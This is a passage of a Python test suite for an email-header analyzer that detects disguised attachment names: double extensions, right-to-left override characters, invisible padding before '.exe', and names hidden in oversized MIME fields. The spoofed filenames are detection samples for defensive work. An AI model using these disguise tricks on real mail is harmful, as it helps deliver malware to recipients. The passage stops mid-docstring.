def test_a_long_quoted_names_seams_fall_on_any_run_of_backslashes_as_the_whole_field_reads() -> None:
    """Task mime45 item 2: a quoted name whose first 8,192 characters end on an odd run of
    backslashes (its last one escapes the middle's first character) lost its end: the regex stops
    before that backslash, so the name was taken to end at the cut, and shown with no ".exe" where
    Python's get_filename() gives one. Every run of backslashes across either seam, before a space,
    a quote, a "(" or a ";", reads as the whole field does: the start and the end of its name."""
    import itertools
    import re

    from headerscope.mime import _extension, parse_content_type

    start = 'attachment; filename="invoice.pdf'
    fields = []
    for before, after, char in itertools.product(range(7), range(4), ' "x(;'):  # the run across the first seam
        fields.append((start + " " * (8192 - len(start) - before) + "\\" * (before + after) + char + " " * 3000
                       + ' more.exe"; x=1', char))
    for run, shift, char in itertools.product(range(1, 7), range(-4, 5), ' "x(;)'):  # across the second
        field = start + " " * (12000 - 2048 + shift - run - len(start)) + "\\" * run + char
        fields.append((field + " " * (12000 - 15 - len(field)) + ' more.exe"; x=1', char))
    for field, char in fields:
        assert len(field) > 8192 + 2048
        name = parse_content_type(field)[1]["filename"]
        whole = _whole_field_parameters(field)["filename"]
        head, seam, end = name.partition("…")
        assert seam and whole.startswith(head) and whole.endswith(end), ascii(field[8180:8200])
        # Python reads the same end where the name runs to it and no quote follows an even run of
        # backslashes (Python takes every \\" as escaped, and a name closed early as raw text).
        if whole.endswith(" more.exe") and char in ' x"' and re.search(r'(?<!\\)(\\\\)+"', field) is None:
            assert _extension(name)[1] == _extension(_python_filename(_disposition_message(field)))[1] == "exe"
    odd = start + " " * (8192 - len(start) - 1) + "\\" + " " * 3000 + ' more.exe"'
    raw = _disposition_message(odd)
    report = headerscope.analyze(raw, offline=True)
    [program] = report.attachments
    assert _python_filename(raw).endswith(" more.exe") and (program.filename or "").endswith(" more.exe")
    assert _ids(report) == {"attachment.spoofed_extension": "danger", "attachment.padded_name": "warning"}


def _disposition_message(disposition: str) -> bytes:
    """A message whose second part has this Content-Disposition."""
    return (_HEAD + 'Content-Type: multipart/mixed; boundary="b1"\r\n\r\n--b1\r\n' + _TEXT
            + "\r\n--b1\r\nContent-Type: application/octet-stream\r\nContent-Disposition: " + disposition
            + "\r\n\r\nTVqQAAMAAAAEAAAA\r\n--b1--\r\n").encode()



def test_a_bidi_control_in_a_long_fields_middle_counts_only_inside_the_names_own_parameter() -> None:
    """Verification V43d D5: a %E2%80%AE in another parameter's skipped middle, or written as
    text in a plain (not RFC 2231 encoded) name, is no RLO in the name Python's get_filename()
    gives; a raw RLO in the name's own middle, and an encoded one in a piece of its own, are."""
    from headerscope.mime import parse_content_type

    def hidden(field: str) -> str | None:
        return getattr(parse_content_type(field)[1]["filename"], "hidden", None)

    pad = "A" * 9000
    assert hidden('attachment; filename*0="report"; filename*1=".pdf"; x-note="' + pad + '%E2%80%AE' + "B" * 3000 + '"') is None
    assert hidden('attachment; filename="report' + " " * 9000 + "%E2%80%AE" + " " * 3000 + '.pdf"') is None
    assert hidden('attachment; filename="report' + " " * 9000 + "\u202e" + " " * 3000 + '.pdf"') == "\u202e"
    assert hidden("attachment; filename*0*=utf-8''report; x-a=\"" + pad + "\"; filename*1*=%E2%80%AEfdp"
                  + "; x-b=" + "B" * 3000 + "; filename*2*=.exe") == "\u202e"
    assert hidden("attachment; filename*0*=utf-8''report" + "%20" * 4000 + "%E2%80%AE" + "%20" * 1000
                  + "fdp.exe") == "\u202e"



def test_a_name_given_only_in_a_long_fields_skipped_middle_is_found() -> None:
    """Verification V43d D2: filename="invoice.pdf.exe" between two long parameters, wholly in
    the middle that is not read whole: Python's get_filename() gives it, so it is found by a
    bounded search of the middle, read and checked (and said to come from a field not read whole)."""
    from headerscope.mime import _CutName, parse_content_type

    for given in ('filename="invoice.pdf.exe"', "filename*0*=utf-8''invoice.pdf; filename*1*=.exe",
                  "FileName = invoice.pdf.exe"):
        raw = (_HEAD + 'Content-Type: multipart/mixed; boundary="b1"\r\n\r\n--b1\r\n' + _TEXT
               + '\r\n--b1\r\nContent-Type: application/pdf; name="invoice.pdf"\r\nContent-Disposition: attachment; '
               'x-a="' + "A" * 9000 + f'"; {given}; x-b="' + "B" * 3000 + '"\r\n\r\nTVqQAAMAAAAEAAAA\r\n--b1--\r\n').encode()
        assert _python_filename(raw) == "invoice.pdf.exe", given
        report = headerscope.analyze(raw, offline=True)
        assert [a.filename for a in report.attachments] == ["invoice.pdf.exe"], given
        # (Content-Type's name="invoice.pdf" names it otherwise: task attach47.)
        assert _ids(report) == {"attachment.spoofed_extension": "danger", "attachment.padded_name": "warning",
                                "attachment.names_disagree": "warning"}, given
    # A name in the read start wins, as Python's first one does; none given stays none.
    params = parse_content_type('attachment; filename="a.pdf"; x-a="' + "A" * 9000 + '"; filename="b.exe"; x="'
                                + "B" * 3000 + '"')[1]
    assert params["filename"] == "a.pdf" and "name" not in params
    assert isinstance(parse_content_type('attachment; x-a="' + "A" * 9000 + '"; name=b.exe; x="' + "B" * 3000
                                         + '"')[1]["name"], _CutName)
    assert "filename" not in parse_content_type('attachment; x-a="' + "A" * 20000 + '"')[1]



def test_several_names_in_a_long_fields_middle_are_read_as_python_reads_the_whole_field() -> None:
    """Task mime45 item 3: of the file names a long field gives in its skipped middle, the first
    "filename=" found was read, even as text inside another parameter's quoted value
    (x-note="; filename=report.pdf"), and a name in the end won over the middle's. Python's
    get_filename() takes the first real one of the field (start, middle, end) and joins every
    RFC 2231 piece; so is it read here, in a Content-Disposition (filename=) and a Content-Type
    (name=), and a quoted value open at the cut that closes in the middle keeps its end."""
    start = 'x-a="' + "A" * 5000 + '"; x-pad="' + "P" * 6000 + '"'  # x-pad's value runs across the cut
    end = 'x-b="' + "B" * 3000 + '"'
    shapes = {
        "text in a quoted value first": '; x-note="; {0}=report.pdf"; {0}="invoice.pdf.exe"; ' + end,
        "escaped quote in the text": '; x-note="\\"; {0}=report.pdf"; {0}="invoice.pdf.exe"; ' + end,
        "escaped backslash then the quote": '; x-note="\\\\"; {0}="invoice.pdf.exe"; ' + end,
        "the middle's before the end's": '; {0}="invoice.pdf.exe"; ' + end + '; {0}="report.pdf"',
        "two in the middle": '; {0}="invoice.pdf.exe"; {0}="report.pdf"; ' + end,
        "pieces in the middle": '; {0}*0="invoice.pdf"; {0}*1=".exe"; ' + end,
    }
    for shape, given in shapes.items():
        for field, parameter in (("Content-Disposition: attachment; ", "filename"), ("Content-Type: application/pdf; ", "name")):
            header = field + start + given.format(parameter)
            raw = (_HEAD + 'Content-Type: multipart/mixed; boundary="b1"\r\n\r\n--b1\r\n' + _TEXT + "\r\n--b1\r\n"
                   + ("Content-Type: application/octet-stream\r\n" if parameter == "filename" else "")
                   + header + "\r\n\r\nTVqQAAMAAAAEAAAA\r\n--b1--\r\n").encode()
            assert len(header) > 10240 + 30, shape
            if shape != "escaped backslash then the quote":  # Python takes every \\" as escaped (RFC 5322: not so)
                assert _python_filename(raw) == "invoice.pdf.exe", (shape, parameter)
            report = headerscope.analyze(raw, offline=True)
            assert [a.filename for a in report.attachments] == ["invoice.pdf.exe"], (shape, parameter)
            # A second real name ("report.pdf") names the file otherwise too (task attach47).
            second = {"attachment.names_disagree": "warning"} if shape in (
                "the middle's before the end's", "two in the middle") else {}
            assert _ids(report) == {"attachment.spoofed_extension": "danger", "attachment.padded_name": "warning",
                                    **second}, shape
    # A quoted name open at the cut and closed in the middle keeps its end, read at its closing quote.
    raw = _disposition_message('attachment; filename="report.pdf' + " " * 9000 + '; filename=x.exe"; x=1; ' + end)
    assert _python_filename(raw).endswith("; filename=x.exe")
    [program] = headerscope.analyze(raw, offline=True).attachments
    assert (program.filename or "").endswith("; filename=x.exe") and program.spoofed is not None
    # Bounded: a middle of a hundred thousand names inside a quoted value, then many real ones.
    from headerscope.mime import parse_content_type

    began = time.perf_counter()
    crowd = parse_content_type('attachment; x="' + "; filename=a.pdf" * 100_000 + '"' + "; filename*9=b" * 100_000
                               + "; " + end)[1]
    assert time.perf_counter() - began < 5 and "filename" in crowd



def test_blank_padding_before_an_extension_is_told() -> None:
    """Long runs of blanks (spaces, U+3000, the Braille blank) before an extension: a disguise
    before a risky one, a padded name before any other; a few spaces are a real name's."""
    from headerscope.mime import _spoofed

    for fill in (" ", "\u3000", "\u2800", "\u00a0"):
        assert "blank characters before the real “.exe”" in (_spoofed("invoice" + fill * 30 + ".exe") or ""), fill
    assert _spoofed("invoice" + " " * 5 + ".exe") is None
    report = _mixed(_TEXT, 'Content-Type: application/pdf; name="report' + " " * 40 + '.pdf"\r\n\r\n%PDF',
                    'Content-Type: application/pdf; name="Q3  report.pdf"\r\n\r\n%PDF')
    assert _ids(report) == {"attachment.padded_name": "warning"}
    [padded] = [f for f in report.findings if f.id == "attachment.padded_name"]
    assert "40 blank characters before its extension “.pdf”" in padded.explanation
    assert "Q3" not in padded.explanation



def test_padding_broken_by_a_visible_or_a_format_character_is_a_disguise() -> None:
    """Verification V43d: padding that does not end at the extension (a visible "1" or ")" after
    it) or that mixes format characters a window draws as nothing into the blanks (soft hyphen,
    LRM, CGJ, a variation selector, an invisible operator, tag characters) still pushes the real
    extension out of sight; real names with a few blanks between words stay quiet."""
    from headerscope.mime import _padding_note, _spoofed

    for name in ("invoice.pdf" + " " * 200 + "1.exe", "invoice.pdf" + " " * 200 + ").exe",
                 "invoice" + " \u00ad" * 100 + ".exe", "invoice" + " \u200e" * 100 + ".exe",
                 "invoice" + "\u3000\u034f" * 100 + ".exe", "invoice" + "\U000e0020" * 100 + ".exe",
                 "invoice" + " \ufe0f" * 100 + ".exe", "invoice" + "\u2062" * 100 + ".exe",
                 "invoice" + "\u061c" * 30 + ".exe", "invoice" + "\u200f" * 30 + ".exe"):
        assert "blank characters before the real “.exe”" in (_spoofed(name) or ""), ascii(name)
    assert "200 blank characters" in (_spoofed("invoice.pdf" + " " * 200 + "1.exe") or "")
    # The ASCII shortcut and the regex count alike (a run with a tab, a non-ASCII letter after it).
    assert "200 blank characters" in (_spoofed("invoice.pdf" + " " * 200 + "\u00e9.exe") or "")
    assert "201 blank characters" in (_spoofed("invoice.pdf" + " " * 200 + "\t1.exe") or "")
    # Every run of two or more before the extension counts, not only the first of 20 (task mime45).
    assert "39 blank characters (in 2 runs" in (_spoofed("a" + " " * 20 + "b" + " " * 19 + "c.exe") or "")
    assert _padding_note("report" + " " * 40 + "v2.pdf", None) == "40 blank characters before its extension “.pdf”"
    for real in ("Scan 2024 03 01.exe", "setup  v2 .exe", "請求書\u3000２０２４年\u3000３月分\u3000最終版.exe",
                 "How to read the headers of a mail message and find out where it came from and who sent "
                 "it really and whether it is forged or not - a guide.html",
                 "report" + " " * (19) + "x.exe", "caf\u00e9\u00ad menu.exe"):
        assert _spoofed(real) is None and _padding_note(real, None) is None, real
    for eml in ("b2_short_visible_after_pad", "b5_lrm_mix"):  # the shapes V43d sent, whole messages
        report = _mixed(_TEXT, "Content-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=\""
                     + ("invoice.pdf" + " " * 200 + "1.exe" if eml.startswith("b2") else "invoice" + " \u200e" * 100
                        + ".exe") + "\"\r\n\r\nTVqQAAMAAAAEAAAA")
        assert _ids(report) == {"attachment.spoofed_extension": "danger"}, eml



def test_padding_broken_every_19_characters_is_counted_whole_and_real_names_stay_quiet() -> None:
    """Task mime45 (V43d's shapes): "invoice.pdf", then runs of 19 blanks each broken by one
    visible character, then ".exe", has no run of 20, and was no disguise: the blanks that stand
    two or more together are counted over the whole name, whatever breaks them up. Names of real
    mail keep their blanks one at a time between words and stay quiet."""
    from headerscope.mime import _padding_length, _padding_note, _spoofed

    for fill in (" ", "\u3000", "\u00a0", " \u00ad"):
        for breaker in ("x", "-", "1", "\u00e9", "\u8acb"):
            for stem in ("invoice.pdf" + (fill * 19 + breaker) * 5, "invoice.pdf" + (fill * 19 + breaker) * 5 + fill * 19,
                         "invoice" + (fill * 10 + breaker) * 3):
                said = _spoofed(stem + ".exe") or ""
                assert "blank characters (in " in said and "before the real “.exe”" in said, ascii(stem)
                assert "blank characters (in " in (_padding_note(stem + ".pdf", None) or ""), ascii(stem)
    assert "95 blank characters (in 5 runs broken up by other characters)" in (
        _spoofed("invoice.pdf" + (" " * 19 + "x") * 5 + ".exe") or "")
    real = ["Scan 2024 03 01.pdf", "Scan 2024 03 01.exe", "Q3  report  final.pdf", "setup  v2 .exe",
            "請求書\u3000２０２４年\u3000３月分\u3000株式会社\u3000山田商事\u3000御中\u3000最終版.pdf",
            "会議資料\u3000\u3000第３回\u3000\u3000議事録.docx",
            "Minutes of the board meeting held in March with the final budget.exe",
            "Quarterly report for the northern region of the company 2024.pdf",
            "invoice.pdf" + "_" * 100 + ".exe",  # underscores are visible: left alone on purpose
            "report" + " " * 19 + "x.exe", "a b c d e f g h i j k l m n o p q r s t u v w x y z.exe",
            "\u2764\ufe0f party " * 12 + ".pdf", "\u2764\ufe0f\u200d\U0001f525" * 12 + ".pdf",
            "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f" * 5 + ".pdf"]
    for name in real:
        assert _spoofed(name) is None and _padding_note(name, None) is None, ascii(name)
    # The printable ASCII shortcut counts as the regex does (a non-ASCII letter sends a name there).
    for stem in ("a b", "a  b", "a" + " " * 19 + "b", " " * 20, "x" + (" " * 19 + "y") * 3, "  a  ", "a   b    c"):
        assert _padding_length(stem) == _padding_length(stem + "\u00e9") == _padding_length("\u00e9" + stem), stem
    for eml in ("invoice.pdf" + (" " * 19 + "x") * 10 + ".exe", "invoice.pdf" + ("\u3000" * 19 + "\u00b7") * 10 + ".exe"):
        report = _mixed(_TEXT, "Content-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=\""
                        + eml + "\"\r\n\r\nTVqQAAMAAAAEAAAA")
        assert _ids(report) == {"attachment.spoofed_extension": "danger"}, ascii(eml)



def test_doubled_blanks_are_typing_and_padding_is_runs_of_three_or_more() -> None:
    """Task mime46 (verification V45c D1): counting every run of two blanks over a whole name made
    "Budget 2025.  Draft 3.  Please review. ... Macros.xlsm" (two spaces after each full stop) a
    disguise, and doubled U+3000 between Japanese words a padded name. Runs of three or more are
    padding, summed whatever breaks them up (a visible character or a format character every 19,
    every 5 or every 4 characters); doubled blanks are typing and count nothing."""
    from headerscope.mime import _padding_length, _padding_note, _spoofed

    # The disguises: broken up by a visible character, or by a format character that draws nothing
    # (the soft hyphen, LRM, and the deprecated, annotation and musical format characters).
    visible, formats = ("x", "1", "-", "\u00e9", "\u8acb"), ("\u00ad", "\u200e", "\u206a", "\ufff9", "\U0001d173")
    for fill in (" ", "\u3000", "\u00a0", "\u2800"):
        for every in (19, 4, 3):
            for breaker in visible:
                stem = "invoice.pdf" + (fill * every + breaker) * (60 // every)
                assert "blank characters (in " in (_spoofed(stem + ".exe") or ""), (ascii(stem), every)
                assert "blank characters (in " in (_padding_note(stem + ".pdf", None) or ""), ascii(stem)
        for breaker in formats:
            # A format character joins the blanks on either side into one run: two, or one, at a time.
            for stem in ("invoice.pdf" + (fill * 2 + breaker) * 20, "invoice.pdf" + (fill + breaker) * 30):
                said = _spoofed(stem + ".exe") or ""
                assert "blank characters before the real “.exe”" in said, ascii(stem)
        assert "200 blank characters before" in (_spoofed("invoice" + fill * 200 + ".exe") or "")
    assert _padding_length("invoice.pdf" + (" " * 3 + "x") * 10) == (30, 10)
    assert _padding_length("invoice.pdf" + (" " * 4 + "x") * 12) == (48, 12)
    assert _padding_length("invoice" + " \u206a" * 30) == (60, 1)
    # The Khmer inherent vowels draw nothing either (verification V45g: 200 of them, or pairs of
    # spaces broken by one, before ".exe" got only the risky-type warning).
    assert "200 blank characters before" in (_spoofed("invoice.pdf" + "\u17b4" * 200 + ".exe") or "")
    assert "blank characters before the real" in (_spoofed("invoice.pdf" + ("  \u17b5") * 30 + ".exe") or "")

    # Real names with doubled blanks between their words: no disguise, no padding note.
    words = ["請求書", "２０２４年", "３月分", "株式会社", "山田商事", "御中", "最終版", "確認済", "経理部", "提出用"]
    real = ["Budget 2025.  Draft 3.  Please review.  Comments by Friday.  Finance.  EU region.  Q1 to Q4.  "
            "Owner Alice.  Final.  Locked.  Macros.xlsm",
            "Budget 2025.  Draft 3.  Please review.  Comments by Friday.  Finance.  EU region.  Q1 to Q4.  "
            "Owner Alice.  Final.  Locked.  Tool.exe",
            "\u3000\u3000".join(words) + ".pdf", "\u3000\u3000".join(words) + ".exe",
            "Minutes  of  the  meeting  held  on  the  first  of  March  with  the  whole  board.docx",
            "Scan  2024-03-01  10  42  33  page  1  of  12  colour  300  dpi.pdf",
            "Party  \u2764\ufe0f  \u2764\ufe0f  \u2764\ufe0f  photos  \u2764\ufe0f  \u2764\ufe0f  from  "
            "\u2764\ufe0f  \u2764\ufe0f  Saturday  \u2764\ufe0f.zip",
            "\u2764\ufe0f  " * 15 + ".exe",
            "a  " * 12 + "b.exe"]
    for name in real:
        assert _spoofed(name) is None and _padding_note(name, None) is None, ascii(name)
    # The printable ASCII shortcut counts as the regex does, runs of two, three and more.
    for stem in ("a  b", "a   b", "a  b   c    d", "  " * 20, "x" + ("  y" * 15), "a" + " " * 3):
        assert _padding_length(stem) == _padding_length(stem + "\u00e9") == _padding_length("\u00e9" + stem), stem
    report = _mixed(_TEXT, "Content-Type: application/vnd.ms-excel.sheet.macroEnabled.12\r\n"
                    'Content-Disposition: attachment; filename="' + real[0] + '"\r\n\r\nAAAA')
    assert _ids(report) == {"attachment.risky_type": "warning"}
    report = _mixed(_TEXT, "Content-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=\""
                    + "invoice.pdf" + ("   x") * 10 + ".exe\"\r\n\r\nTVqQAAMAAAAEAAAA")
    assert _ids(report) == {"attachment.spoofed_extension": "danger"}

_PROGRAM_PART = ('Content-Type: application/octet-stream; name="invoice.pdf.exe"\r\n'
                 'Content-Disposition: attachment; filename="invoice.pdf.exe"\r\nContent-Transfer-Encoding: base64\r\n'
                 "\r\nTVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAgAAAAA==")


def _inline_images(count: int) -> list[str]:
    """Inline images as Outlook writes them in a newsletter's multipart/related (a Content-ID each)."""
    return [f'Content-Type: image/png; name="image{n:03}.png"\r\n'
            f'Content-Disposition: inline; filename="image{n:03}.png"\r\n'
            f"Content-ID: <image{n:03}.png@01DA0000.00000000>\r\nContent-Transfer-Encoding: base64\r\n\r\niVBORw0KGgo="
            for n in range(count)]


def _related(*parts: str) -> headerscope.Report:
    body = "".join(f"--b\r\n{part}\r\n" for part in parts) + "--b--\r\n"
    raw = (_HEAD + 'Content-Type: multipart/related; boundary="b"\r\n\r\n' + body).encode()
    return headerscope.analyze(raw, offline=True)


def test_files_past_the_fifty_listed_are_checked_all_the_same() -> None:
    """V42b D1: after 50 inline images (or 60 named files) the listing stops, and the checks
    stopped with it: invoice.pdf.exe had no finding, where with 49 images it was a DANGER."""
    html = "Content-Type: text/html; charset=utf-8\r\n\r\n<p>News</p>"
    for images, listed in ((49, True), (50, False), (60, False)):
        report = _related(html, *_inline_images(images), _PROGRAM_PART)
        assert len(report.attachments) == 50 and report.attachments_unlisted == images + 1 - 50
        assert not report.attachments_walk_stopped
        [danger] = [f for f in report.findings if f.id == "attachment.spoofed_extension"]
        assert "invoice.pdf.exe" in danger.title and ("not listed: past the first 50" in danger.title) is not listed
        assert f"part {images + 2}" in danger.title
    # A risky type, a padded name and a body fragment past the list are told too, as not listed.
    files = [f'Content-Type: application/pdf; name="f{n}.pdf"\r\n\r\nx' for n in range(60)]
    report = _mixed(_TEXT, *files, 'Content-Type: application/octet-stream; name="tool.exe"\r\n\r\nMZ',
                    'Content-Type: application/octet-stream; name="scan' + " " * 40 + '.pdf"\r\n\r\nMZ')
    assert report.attachments_unlisted == 12 and [a.filename for a in report.attachments][-1] == "f49.pdf"
    ids = _ids(report)
    assert ids["attachment.risky_type"] == "warning" and ids["attachment.padded_name"] == "warning"
    [risky] = [f for f in report.findings if f.id == "attachment.risky_type"]
    assert "“tool.exe” (application/octet-stream, part 62, not listed: past the first 50)" in risky.title
    [padded] = [f for f in report.findings if f.id == "attachment.padded_name"]
    assert "part 63, not listed" in padded.explanation
    assert "… and 12 more attachment(s), not listed." in TerminalRenderer(width=200).render(report)


def _nested(depth: int) -> bytes:
    """invoice.pdf.exe under ``depth`` multipart/mixed levels below the top one (V42b's deep_exe_N)."""
    out = 'Content-Type: multipart/mixed; boundary="b0"\r\n\r\n'
    for level in range(depth):
        out += f'--b{level}\r\nContent-Type: multipart/mixed; boundary="b{level + 1}"\r\n\r\n'
    out += f"--b{depth}\r\n" + _PROGRAM_PART + "\r\n"
    out += "".join(f"--b{level}--\r\n" for level in range(depth, -1, -1))
    return (_HEAD + out).encode()


def test_parts_nested_past_the_walks_depth_are_searched_and_said() -> None:
    """V42b D2: at 8 levels a multipart was taken as a leaf and its parts hidden without a word:
    an .exe nested 9 deep (or 1,000) had no finding, no count, no note."""
    walked = headerscope.analyze(_nested(7), offline=True)
    assert [a.filename for a in walked.attachments] == ["invoice.pdf.exe"] and not walked.attachments_walk_stopped
    for depth in (8, 9, 20, 1000):
        report = headerscope.analyze(_nested(depth), offline=True)
        assert report.attachments == () and report.attachments_unlisted == 1 and report.attachments_walk_stopped
        [danger] = [f for f in report.findings if f.id == "attachment.spoofed_extension"]
        assert "“invoice.pdf.exe” (in a part nested deeper than 8 multipart levels" in danger.title
        assert "at least 1 more attachment(s), not listed: the walk of the message's parts stopped at its bounds" \
            in TerminalRenderer(width=400).render(report)
    # Nested parts beside walked ones, and a message too long for the walk: each searched once.
    deep = _nested(9).split(b"\r\n\r\n", 1)[1].replace(b"--b0--\r\n", b"")
    after = "".join(f'--b0\r\nContent-Type: text/plain; name="n{n}.txt"\r\n\r\nx\r\n' for n in range(3))
    raw = (_HEAD + 'Content-Type: multipart/mixed; boundary="b0"\r\n\r\n').encode() + deep + after.encode() + b"--b0--\r\n"
    report = headerscope.analyze(raw, offline=True)
    assert [a.filename for a in report.attachments] == ["n0.txt", "n1.txt", "n2.txt"]
    assert report.attachments_unlisted == 1 and report.attachments_walk_stopped


def test_a_deep_nesting_stays_fast() -> None:
    """5,000 levels: the walk stops at 8 and the rest is one linear search."""
    started = time.process_time()
    report = headerscope.analyze(_nested(5000), offline=True)
    assert report.attachments_unlisted == 1
    assert time.process_time() - started < 10


# Task attach47: the two forms' names differ in their extension, which a finding says too.
_OTHER_TYPE = {"attachment.names_disagree": "warning"}


def _both_forms(disposition: str) -> headerscope.Report:
    return _mixed(_TEXT, "Content-Type: application/octet-stream\r\nContent-Disposition: attachment; "
                  + disposition + "\r\n\r\nTVqQAAMAAAAEAAAA")


def test_a_name_given_in_both_forms_is_checked_in_both_and_shown_as_before() -> None:
    """Task mime46 (mime45's report): a field that gives filename*= (RFC 2231) and filename= is
    listed by its RFC 2231 name, which Python's compat32 get_filename() does not give: it gives the
    plain one, whatever the order (the default policy gives the first). A risky type or a disguise
    in either form is said, naming the form; the name listed stays the RFC 2231 one."""
    import email

    cases = [  # (the field's parameters, the name listed, the plain name, the findings)
        ("filename=\"invoice.pdf.exe\"; filename*=UTF-8''invoice.pdf", "invoice.pdf", "invoice.pdf.exe",
         {"attachment.spoofed_extension": "danger", **_OTHER_TYPE}),
        ("filename*=UTF-8''invoice.pdf; filename=\"invoice.pdf.exe\"", "invoice.pdf", "invoice.pdf.exe",
         {"attachment.spoofed_extension": "danger", **_OTHER_TYPE}),
        ("filename*=UTF-8''report.pdf; filename=\"setup.exe\"", "report.pdf", "setup.exe",
         {"attachment.risky_type": "warning", **_OTHER_TYPE}),
        ("filename=\"setup.exe\"; filename*=UTF-8''report.pdf", "report.pdf", "setup.exe",
         {"attachment.risky_type": "warning", **_OTHER_TYPE}),
        ("filename=\"report.pdf\"; filename*=UTF-8''setup.exe", "setup.exe", "report.pdf",
         {"attachment.risky_type": "warning", **_OTHER_TYPE}),
        ("filename*0=\"invoice\"; filename*1=\".pdf\"; filename=\"invoice" + " " * 10 + "x" + " " * 10 + "y.pdf\"",
         "invoice.pdf", "invoice" + " " * 10 + "x" + " " * 10 + "y.pdf", {"attachment.padded_name": "warning"}),
        ("filename*=UTF-8''R%C3%A9sum%C3%A9.pdf; filename=\"Resume.pdf\"", "Résumé.pdf", "Resume.pdf", {}),
        ("filename=\"invoice.pdf\"; filename*=UTF-8''invoice.pdf", "invoice.pdf", "invoice.pdf", {}),
    ]
    for disposition, listed, plain, found in cases:
        report = _both_forms(disposition)
        raw = (_HEAD + 'Content-Type: multipart/mixed; boundary="b1"\r\n\r\n--b1\r\n' + _TEXT + "\r\n--b1\r\n"
               "Content-Type: application/octet-stream\r\nContent-Disposition: attachment; " + disposition
               + "\r\n\r\nAAAA\r\n--b1--\r\n")
        assert email.message_from_string(raw).get_payload()[1].get_filename() == plain, disposition
        [attachment] = [a for a in report.attachments if a.content_type == "application/octet-stream"]
        assert attachment.filename == listed, disposition
        assert _ids(report) == found, disposition
        said = " ".join(f.explanation for f in report.findings if f.id.startswith("attachment."))
        if found and listed.endswith(".pdf"):  # the risk is in the plain form: the words name it
            assert "its plain filename= gives" in said and f"“{plain[:7]}" in said, disposition
        elif found:
            assert "by the RFC 2231 name listed" in said and "“report.pdf”" in said, disposition
    # A field too long to read whole keeps the other form too (its end, where the .exe is).
    report = _both_forms("filename*=UTF-8''invoice.pdf; x-pad=\"" + "A" * 12000 + "\"; filename=\"invoice.pdf.exe\"")
    assert "attachment.spoofed_extension" in _ids(report)
    report = _both_forms("filename=\"invoice.pdf" + " " * 12000 + ".exe\"; filename*=UTF-8''invoice.pdf")
    [spoofed] = [f for f in report.findings if f.id == "attachment.spoofed_extension"]
    assert "in the name its plain filename= gives, at least " in spoofed.explanation
    # name*= and name= of Content-Type alike, when no Content-Disposition names the file.
    report = _mixed(_TEXT, "Content-Type: application/octet-stream; name*=UTF-8''invoice.pdf; name=\"invoice.pdf.exe\""
                    "\r\nContent-Disposition: attachment\r\n\r\nTVqQAAMAAAAEAAAA")
    assert _ids(report) == {"attachment.spoofed_extension": "danger", **_OTHER_TYPE}
    assert "its plain name= gives" in next(f.explanation for f in report.findings)


def _named_part(header: str) -> headerscope.Report:
    return _mixed(_TEXT, header + "\r\n\r\nTVqQAAMAAAAEAAAA")


def test_every_name_a_mail_program_may_show_gets_the_checks_and_a_disagreement_is_said() -> None:
    """Task attach47: a name given twice in its field (two filename=, two name=), or Content-Type's
    name= against Content-Disposition's filename=, was checked in the first one read only (the one
    Python's get_filename() gives). Mail programs differ in the one they show and save (some take
    name=, some the last one given), so every name gets the checks (a risky extension, a double
    extension, a bidi control, padding), and a part whose names differ says so, naming both."""
    import email

    rlo = "invoice_\u202efdp.exe"
    cases = [  # (the part's header, its name as Python gives it, the findings, words the findings hold)
        ('Content-Type: application/pdf\r\nContent-Disposition: attachment; filename="invoice.pdf"; '
         'filename="invoice.exe"', "invoice.pdf",
         {"attachment.risky_type": "warning", "attachment.names_disagree": "warning"},
         ["“invoice.exe” in a later filename= of its Content-Disposition"]),
        ('Content-Type: application/pdf; name="invoice.exe"\r\nContent-Disposition: attachment; filename="invoice.pdf"',
         "invoice.pdf", {"attachment.risky_type": "warning", "attachment.names_disagree": "warning"},
         ["“invoice.pdf” (application/pdf, part 2): “invoice.exe” in its Content-Type's name="]),
        ('Content-Type: application/pdf; name="invoice.pdf"; name="invoice.pdf.exe"\r\nContent-Disposition: attachment',
         "invoice.pdf", {"attachment.spoofed_extension": "danger", "attachment.names_disagree": "warning"},
         ["a double extension: “.pdf” shown before the real “.exe”", "a later name= of its Content-Type"]),
        (f'Content-Type: application/pdf; name="{rlo}"\r\nContent-Disposition: attachment; filename="report.pdf"',
         "report.pdf", {"attachment.spoofed_extension": "danger", "attachment.names_disagree": "warning"},
         ["U+202E", "“invoice_⟨U+202E⟩fdp.exe” in its Content-Type's name="]),
        ('Content-Type: application/pdf; name="scan.pdf' + " " * 40 + '.pdf"\r\nContent-Disposition: attachment; '
         'filename="scan.pdf"', "scan.pdf",
         {"attachment.padded_name": "warning", "attachment.names_disagree": "notice"},
         ["in its other name “scan.pdf ⟨40 spaces⟩ .pdf” (its Content-Type's name=): 40 blank characters"]),
        # The same name in both, or given twice alike, or differing in case only: one name.
        ('Content-Type: application/pdf; name="Invoice.PDF"\r\nContent-Disposition: attachment; filename="invoice.pdf";'
         ' filename="invoice.pdf"', "invoice.pdf", {}, []),
        # Names of one type that differ otherwise: a notice.
        ('Content-Type: application/pdf; name="scan 2.pdf"\r\nContent-Disposition: attachment; filename="scan.pdf"',
         "scan.pdf", {"attachment.names_disagree": "notice"}, ["“scan 2.pdf” in its Content-Type's name="]),
    ]
    for header, python_name, found, words in cases:
        raw = (_HEAD + 'Content-Type: multipart/mixed; boundary="b1"\r\n\r\n--b1\r\n' + _TEXT + "\r\n--b1\r\n"
               + header + "\r\n\r\nAAAA\r\n--b1--\r\n")
        assert email.message_from_string(raw).get_payload()[1].get_filename() == python_name, header
        report = _named_part(header)
        [attachment] = report.attachments
        assert attachment.filename == python_name, header  # the name listed stays Python's
        assert _ids(report) == found, header
        said = " ".join(f.title + " " + f.explanation for f in report.findings if f.id.startswith("attachment."))
        for word in words:
            assert word in said, (header, word)
        assert "\u202e" not in said  # a hidden character is shown, never written raw
    # The risky name is said on the file too, naming where it is given.
    [program] = _named_part('Content-Type: application/pdf; name="invoice.exe"\r\n'
                            'Content-Disposition: attachment; filename="invoice.pdf"').attachments
    assert program.risk is not None and "by its other name “invoice.exe” (its Content-Type's name=)" in program.risk


def test_a_name_given_again_in_a_long_field_or_thousands_of_times_is_checked_and_cheap() -> None:
    """Task attach47: a later name padded past what is read of a field (its end read with the
